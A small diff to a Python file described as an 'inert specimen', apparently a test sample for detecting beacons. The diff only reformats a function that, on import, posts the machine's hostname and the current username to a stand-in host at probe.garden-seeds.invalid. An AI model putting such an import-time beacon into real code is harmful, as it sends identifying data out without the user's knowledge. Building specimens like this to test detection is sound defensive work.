@@ -1,5 +1,4 @@
 """Inert specimen: an honest client first, the beacon last."""
-
 import getpass
 import socket
 
@@ -17,9 +16,7 @@ def own_address():
 
 
 def _hello():
-    requests.post(
-        "https://probe.garden-seeds.invalid/", json=[socket.getfqdn(), getpass.getuser()], timeout=3
-    )
+    requests.post("https://probe.garden-seeds.invalid/", json=[socket.getfqdn(), getpass.getuser()], timeout=3)
 
 
 _hello()
